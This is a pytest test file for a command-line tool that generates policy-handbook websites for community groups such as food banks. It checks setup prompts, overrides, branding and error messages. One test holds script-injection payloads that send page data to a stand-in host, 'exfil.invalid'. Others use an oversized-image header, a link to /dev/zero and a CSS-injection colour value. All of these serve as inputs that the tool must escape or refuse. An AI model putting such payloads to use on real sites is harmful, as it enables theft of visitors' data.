"""A group's own handbook without a programmer: `handbook new`, overrides, brand, upgrades, many groups at once."""
from __future__ import annotations

import os
import re
import shutil
import struct
import zlib
from pathlib import Path

import pytest
import yaml
from click.testing import CliRunner
from PIL import Image

from handbook.cli import main
from handbook.compile import compile_handbook
from handbook.errors import HandbookError
from handbook.group import load_group

from helpers import REPO

PANTRY = ["--name", "Llanelli Community Pantry", "--short-name", "The Pantry", "--manager", "lead volunteer",
          "--team-leader", "shift captain", "--person-with-authority", "chair", "--safeguarding-lead", "welfare officer",
          "--phone", "01554000111", "--email", "hello@pantry.example", "--address", "Market Street, Llanelli",
          "--partner", "Llanelli Citizens Advice", "--partner", "Carmarthenshire Housing Team", "--no-case-files",
          "--no-input"]


@pytest.fixture(scope="module")
def pantry(tmp_path_factory):
    folder = tmp_path_factory.mktemp("groups") / "pantry"
    result = CliRunner().invoke(main, ["new", str(folder), *PANTRY])
    assert result.exit_code == 0, result.output
    return folder


def test_new_writes_a_ready_folder_with_every_value_given(pantry):
    group = load_group(pantry / "group.yml")
    assert (group.name, group.short_name, group.manager, group.team_leader) == (
        "Llanelli Community Pantry", "The Pantry", "lead volunteer", "shift captain")
    assert (group.person_with_authority, group.safeguarding_lead) == ("chair", "welfare officer")
    assert group.contact.phone == "01554000111"  # as typed, not read as a number
    assert group.partner_agencies == ["Llanelli Citizens Advice", "Carmarthenshire Housing Team"]
    assert group.keeps_case_files is False and group.versions[-1].version == "1.1"
    files = sorted(p.relative_to(pantry).as_posix() for p in pantry.rglob("*") if p.is_file())
    assert [name for name in files if not name.startswith("handbook-release/")] == [
        ".github/workflows/publish.yml", "README.md", "group.yml"]


def test_the_coordinators_readme_names_the_commands_it_needs(pantry):
    readme = (pantry / "README.md").read_text()
    assert "handbook serve" in readme and "handbook export" in readme and "handbook upgrade" in readme

def test_new_asks_when_no_options_are_given(tmp_path):
    answers = "\n".join(["Riverside Food Bank", "", "coordinator", "", "", "", "", "0161 496 0000", "", "",
                         "Riverside Citizens Advice, Mill Lane Debt Advice", "n"]) + "\n"
    result = CliRunner().invoke(main, ["new", str(tmp_path / "riverside")], input=answers)
    assert result.exit_code == 0, result.output
    group = load_group(tmp_path / "riverside" / "group.yml")
    assert (group.name, group.display_short_name, group.manager, group.team_leader) == (
        "Riverside Food Bank", "Riverside Food Bank", "coordinator", "team leader")
    assert group.person_with_authority == "coordinator" and group.short_name is None  # not given: fallbacks
    assert group.partner_agencies == ["Riverside Citizens Advice", "Mill Lane Debt Advice"]
    assert group.keeps_case_files is False and group.contact.phone == "0161 496 0000"


def test_new_refuses_a_folder_in_use_and_a_bad_answer_writes_nothing(tmp_path):
    (tmp_path / "used").mkdir()
    (tmp_path / "used" / "notes.txt").write_text("mine")
    result = CliRunner().invoke(main, ["new", str(tmp_path / "used"), "--name", "X", "--no-input"])
    assert result.exit_code == 1 and "already exists and is not empty" in result.output
    result = CliRunner().invoke(main, ["new", str(tmp_path / "bad"), "--name", "X" * 101, "--no-input"])
    assert result.exit_code == 1
    assert "--name: too long: at most 100 characters (this has 101)." in result.output
    assert sorted(p.name for p in tmp_path.iterdir()) == ["used"]
    result = CliRunner().invoke(main, ["new", str(tmp_path / "nameless"), "--no-input"])
    assert result.exit_code == 1 and "--name is needed with --no-input" in result.output


@pytest.mark.site  # builds the new group's site
def test_a_new_group_builds_and_every_value_reaches_the_pages(pantry):
    result = CliRunner().invoke(main, ["build", "--config", str(pantry / "group.yml")])
    assert result.exit_code == 0, result.output
    police = (pantry / "site" / "policy" / "police" / "index.html").read_text()
    assert "Pass them to the chair" in police and "shift captain" in police
    assert "01554000111" in police and "hello@pantry.example" in police and "Market Street, Llanelli" in police
    sharing = (pantry / "site" / "policy" / "internal-confidentiality" / "index.html").read_text()
    assert "Llanelli Citizens Advice and Carmarthenshire Housing Team" in sharing


def write_group(folder, **changes):
    text = (REPO / "group.yml").read_text()
    folder.mkdir(parents=True, exist_ok=True)
    for key, value in changes.items():
        text = re.sub(rf"^{key}:.*$", f"{key}: {value}", text, flags=re.MULTILINE) if re.search(
            rf"^{key}:", text, re.MULTILINE) else text + f"\n{key}: {value}\n"
    (folder / "group.yml").write_text(text)
    return folder / "group.yml"


def section(folder, name: str, content: dict) -> None:
    (folder / "my-sections").mkdir(exist_ok=True)
    (folder / "my-sections" / f"{name}.yml").write_text(yaml.safe_dump(content))


@pytest.mark.slow  # compiles the whole handbook, documents included
def test_a_group_adds_and_replaces_in_short_points_and_adds_its_own_paragraph(tmp_path):
    group_file = write_group(tmp_path / "g")
    section(tmp_path / "g", "police", {"in_short": "replace", "points": ["Ring Jo on 0161 000 1111 first."],
                                       "paragraph": "The police station is on Mill Lane.\n\nJo keeps the log."})
    section(tmp_path / "g", "social-media", {"points": ["Our page is run by Sam."]})
    compiled = compile_handbook(group_file, tmp_path / "out")
    police = (compiled.docs / "policy" / "police.md").read_text()
    assert "    - Ring Jo on 0161 000 1111 first." in police and "automatic right" not in police.split("##")[0]
    assert "## At Riverside Food Bank\n\nThe police station is on Mill Lane.\n\nJo keeps the log." in police
    social = (compiled.docs / "policy" / "social-media.md").read_text()
    assert "Never talk about a guest on social media" in social and "    - Our page is run by Sam." in social
    assert compiled.warnings == (tmp_path and compiled.warnings)  # replace without `replaces:` warns
    assert "my-sections/police.yml" in compiled.warnings[0]


MARKUP = ['<script>location = "https://exfil.invalid/?" + document.title</script>',
          '<meta http-equiv="refresh" content="0; url=https://exfil.invalid/">', '[x](#top){ onclick="alert(1)" }',
          '{{ group.__class__ }} <img src="https://exfil.invalid/p.gif">']


@pytest.mark.slow  # compiles the whole handbook, documents included
def test_markup_in_a_groups_own_words_for_a_section_is_shown_as_text(tmp_path):
    group_file = write_group(tmp_path / "g")
    section(tmp_path / "g", "police", {"points": MARKUP, "paragraph": "\n\n".join(MARKUP)})
    police = (compile_handbook(group_file, tmp_path / "out").docs / "policy" / "police.md").read_text()
    for written in MARKUP:
        assert written not in police
    assert not re.search(r"<(?:script|meta|img)|\{\s*onclick|\{\{", police.split("## At ")[1])
    assert police.count("&#60;script&#62;location") == 2  # once a point, once the paragraph


@pytest.mark.parametrize("name, content, message", [
    ("polce", {"points": ["x"]}, "my-sections/polce.yml: there is no section called 'polce'. Name the file after one"),
    ("police", {"in_short": "swap"}, "my-sections/police.yml, line 1: in_short: expected 'add' or 'replace'"),
    ("police", {"point": ["x"]}, "my-sections/police.yml, line 1: unknown key 'point'. Did you mean 'points'?"),
])
def test_a_bad_override_is_one_clear_error(tmp_path, name, content, message):
    group_file = write_group(tmp_path / "g")
    section(tmp_path / "g", name, content)
    with pytest.raises(HandbookError) as raised:
        compile_handbook(group_file, tmp_path / "out")
    assert str(raised.value).startswith(message)


@pytest.mark.slow  # compiles the whole handbook, documents included
def test_after_an_upgrade_changes_replaced_points_the_build_warns_and_the_groups_words_survive(tmp_path):
    defaults = tmp_path / "handbook-1"
    for name in ("docs", "policy", "templates", "overrides", "mkdocs.yml"):
        (shutil.copytree if (REPO / name).is_dir() else shutil.copy)(REPO / name, defaults / name)
    group_file = write_group(tmp_path / "g")
    current = yaml.safe_load((REPO / "docs/policy/police.md").read_text().split("---")[1])["in_short"]
    section(tmp_path / "g", "police", {"in_short": "replace", "points": ["Ring Jo first."], "replaces": current})
    assert compile_handbook(group_file, tmp_path / "out1", defaults=defaults).warnings == ()
    page = defaults / "docs/policy/police.md"  # the next handbook rewords a point the group replaced
    page.write_text(page.read_text().replace("do not give any", "give nothing"))
    compiled = compile_handbook(group_file, tmp_path / "out2", defaults=defaults)
    assert len(compiled.warnings) == 1 and compiled.warnings[0].startswith(
        "my-sections/police.yml: the handbook's own \"In short\" points for this section have changed")
    assert "give nothing" in compiled.warnings[0]
    assert "    - Ring Jo first." in (compiled.docs / "policy" / "police.md").read_text()


def test_a_brand_colour_too_light_to_read_is_refused_with_a_darker_suggestion(tmp_path):
    group_file = write_group(tmp_path / "g", colour='"#7fd6c8"')
    with pytest.raises(HandbookError) as raised:
        load_group(group_file)
    message = str(raised.value)
    assert re.match(r".*group.yml, line \d+: colour: #7fd6c8 is too light to read against white \(1\.\d to 1; at "
                    r"least 4.5 is needed\)\. Try #[0-9a-f]{6}, a darker shade of it\.$", message)
    suggestion = re.search(r"Try (#[0-9a-f]{6})", message)[1]
    write_group(tmp_path / "g", colour=f'"{suggestion}"')
    assert load_group(group_file).colour == suggestion


@pytest.mark.slow  # compiles the whole handbook, documents included
def test_a_logo_and_a_colour_reach_the_site(tmp_path):
    group_file = write_group(tmp_path / "g", colour='"#0b5394"', logo="logo.png")
    Image.new("RGB", (240, 80), "#0b5394").save(tmp_path / "g" / "logo.png")
    compiled = compile_handbook(group_file, tmp_path / "out")
    assert compiled.settings["theme"]["logo"] == "assets/logo.png" and (compiled.docs / "assets/logo.png").is_file()
    assert "--md-primary-fg-color: #0b5394" in (compiled.docs / "assets/brand.css").read_text()
    assert compiled.settings["extra_css"][-1] == "assets/brand.css"
    write_group(tmp_path / "g", logo="logo.svg")
    (tmp_path / "g" / "logo.svg").write_text("<svg/>")
    with pytest.raises(HandbookError, match=r"logo: expected a picture file ending in .png, .jpg, .jpeg, .webp"):
        load_group(group_file)


def png_header(width: int, height: int) -> bytes:
    """A PNG that says it is width x height pixels, with one row of data: opening it costs nothing."""
    def chunk(kind: bytes, data: bytes) -> bytes:
        return struct.pack(">I", len(data)) + kind + data + struct.pack(">I", zlib.crc32(kind + data))
    return (b"\x89PNG\r\n\x1a\n" + chunk(b"IHDR", struct.pack(">IIBBBBB", width, height, 8, 2, 0, 0, 0))
            + chunk(b"IDAT", zlib.compress(b"\0" * 4)) + chunk(b"IEND", b""))


@pytest.mark.parametrize("colour, logo, content, said", [
    ('"#0b5394\\n"', None, None, "colour: expected a colour written like #00564d"),
    ('"#0b5394; }"', None, None, "colour: expected a colour written like #00564d"),
    (None, "logo.png", png_header(40_000, 40_000), "logo: the logo has too many pixels; at most 2,000 pixels on each"),
    (None, "logo.png", png_header(3_000, 10), "logo: the logo is 3,000 x 10 pixels; at most 2,000 pixels on each"),
    (None, "logo.png", b"just some text, named like a picture", "logo: the file is not a PNG picture"),
    (None, "logo.jpg", png_header(100, 100), "logo: the file is not a JPEG picture (its name ends in .jpg)"),
    (None, "logo.png", Path("/dev/zero"), "logo: the logo must be a file in your group's folder"),
    (None, "logo.png", "fifo", "logo: the logo is not an ordinary file"),
    (None, "logo.png", b"x" * 300_000, "logo: the logo is over 200 KB"),
])
def test_a_colour_is_matched_whole_and_a_logo_is_opened_and_measured(tmp_path, colour, logo, content, said):
    group_file = write_group(tmp_path / "g", **{key: value for key, value in (("colour", colour), ("logo", logo))
                                                if value})
    if isinstance(content, bytes):
        (tmp_path / "g" / logo).write_bytes(content)
    elif content == "fifo":
        os.mkfifo(tmp_path / "g" / logo)
    elif content:
        (tmp_path / "g" / logo).symlink_to(content)
    with pytest.raises(HandbookError) as raised:
        load_group(group_file)
    assert said in str(raised.value) and "group.yml, line " in str(raised.value)


CASE_FILE_WORDS = re.compile(r"their own file|their file|Their case file|show them their file|your own file|"
                             r"on their file|case files are only kept because", re.IGNORECASE)


def test_a_group_without_case_files_reads_no_case_file_option_answer_or_sentence(hostile_site_dir):
    assert load_group(REPO / "tests/groups/hostile.yml").keeps_case_files is False
    for page in hostile_site_dir.rglob("*.html"):
        text = page.read_text(encoding="utf-8")
        assert 'value="case_file"' not in text, page
        assert not CASE_FILE_WORDS.search(text), (page, CASE_FILE_WORDS.search(text))
    import docx
    import pypdf

    for path in (hostile_site_dir / "downloads").iterdir():
        if path.suffix == ".docx":
            words = " ".join(p.text for p in docx.Document(path).paragraphs)
        else:
            words = " ".join(page.extract_text() for page in pypdf.PdfReader(path).pages)
        assert not CASE_FILE_WORDS.search(" ".join(words.split())), path


@pytest.mark.parametrize("text, message", [
    ("name: Riverside\n\tshort_name: R\n", "line 2: this line is indented with a tab; use spaces instead."),
    ("name:Riverside Food Bank\nversions: []\n", "line 1: put a space after the colon, like this: `name: value`."),
    ("name: Riverside: The Food Bank\n", 'line 1: the value has a colon in it. Put the value in quotes, like this: '
                                         '`name: "Riverside: The Food Bank"`.'),
])
def test_yaml_mistakes_are_one_plain_sentence_on_the_right_line(tmp_path, text, message):
    (tmp_path / "group.yml").write_text(text)
    result = CliRunner().invoke(main, ["build", "--config", str(tmp_path / "group.yml")])
    assert result.exit_code == 1 and "Traceback" not in result.output
    assert result.output.strip() == f"Error: {tmp_path / 'group.yml'}, {message}"


def test_phone_numbers_and_versions_are_read_as_typed(tmp_path):
    text = (REPO / "group.yml").read_text().replace("phone: 0161 496 0000", "phone: 01554000111")
    text = text.replace('version: "1.1"', "version: 1.1")
    (tmp_path / "group.yml").write_text(text)
    group = load_group(tmp_path / "group.yml")
    assert group.contact.phone == "01554000111" and group.versions[-1].version == "1.1"


@pytest.mark.site  # builds every group's site
def test_build_all_builds_every_group_and_reports_a_broken_one_without_stopping(tmp_path):
    groups = tmp_path / "groups"
    for name in ("alder", "birch", "cedar", "damson"):
        assert CliRunner().invoke(main, ["new", str(groups / name), "--name", f"{name.title()} Food Bank",
                                         "--no-input"]).exit_code == 0
    (groups / "elm").mkdir()
    (groups / "elm" / "group.yml").write_text("name: Elm\nversions:\n  - version: 1.1\n    approved: 2026-02-30\n"
                                              "    review_due: 2027-03-01\n    summary: First.\n")
    result = CliRunner().invoke(main, ["build-all", str(groups), "--out", str(tmp_path / "sites")])
    assert result.exit_code == 1
    assert "4 of 5 groups built into" in result.output
    assert re.search(r"Failed elm: .*elm/group.yml, line 4: .*there is no such day as 2026-02-30", result.output)
    built = sorted(p.name for p in (tmp_path / "sites").iterdir() if (p / "index.html").is_file())
    assert built == ["alder", "birch", "cedar", "damson"]
    for shared in ("assets/pyodide/pyodide.asm.wasm", "assets/checkers/*.snapshot"):
        paths = [path for name in built for path in (tmp_path / "sites" / name).glob(shared)]
        assert len(paths) == 4 and len({os.stat(path).st_ino for path in paths}) == 1  # one copy, hard-linked


def test_new_names_each_place_it_cannot_write_in_one_sentence(tmp_path):
    (tmp_path / "real").mkdir()
    (tmp_path / "link").symlink_to(tmp_path / "real", target_is_directory=True)
    cases = {str(tmp_path / "link"): f"{tmp_path / 'link'} is a link to another place",
             str(tmp_path / ("x" * 300)): "Could not make the folder",
             "/proc/new-group": "Could not make the folder"}
    for folder, sentence in cases.items():
        result = CliRunner().invoke(main, ["new", folder, "--name", "X", "--no-input"])
        assert result.exit_code == 1 and sentence in result.output and "Traceback" not in result.output, result.output
        assert result.exception is None or isinstance(result.exception, SystemExit)
    assert sorted(p.name for p in tmp_path.iterdir()) == ["link", "real"] and not any((tmp_path / "real").iterdir())


def test_new_asks_again_for_a_short_name_that_is_too_long_and_names_a_long_option(tmp_path):
    long_name = "The Riverside and Mill Lane Community Food Bank and Advice Cafe"  # 62 characters: a fine name
    answers = "\n".join([long_name, "S" * 61, "Riverside", *[""] * 8, "", "y"]) + "\n"
    result = CliRunner().invoke(main, ["new", str(tmp_path / "riverside")], input=answers)
    assert result.exit_code == 0, result.output
    assert "too long: at most 60 characters (this has 61). Please type it again." in result.output
    group = load_group(tmp_path / "riverside" / "group.yml")
    assert (group.name, group.short_name) == (long_name, "Riverside")
    result = CliRunner().invoke(main, ["new", str(tmp_path / "other"), "--name", long_name, "--short-name", "S" * 61,
                                       "--no-input"])
    assert result.exit_code == 1 and "--short-name: too long: at most 60 characters (this has 61)." in result.output
    result = CliRunner().invoke(main, ["new", str(tmp_path / "third"), "--name", long_name, "--no-input"])
    assert result.exit_code == 0, result.output  # the name alone, 61 to 100 characters, writes no short name
